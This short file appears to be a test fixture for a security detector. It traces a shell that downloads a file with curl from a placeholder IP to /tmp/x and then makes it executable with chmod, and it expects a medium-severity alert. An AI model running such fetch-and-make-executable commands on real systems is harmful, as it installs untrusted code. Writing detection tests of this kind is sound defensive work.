# Fetched by one helper, made executable by another.
sh is /bin/bash uid=1000
sh fork curl
curl exec /usr/bin/curl "curl -o /tmp/x http://203.0.113.9/x"
curl write /tmp/x
sh fork chmod
chmod exec /bin/chmod "chmod +x /tmp/x"
chmod chmod /tmp/x
expect medium makes executable what was fetched
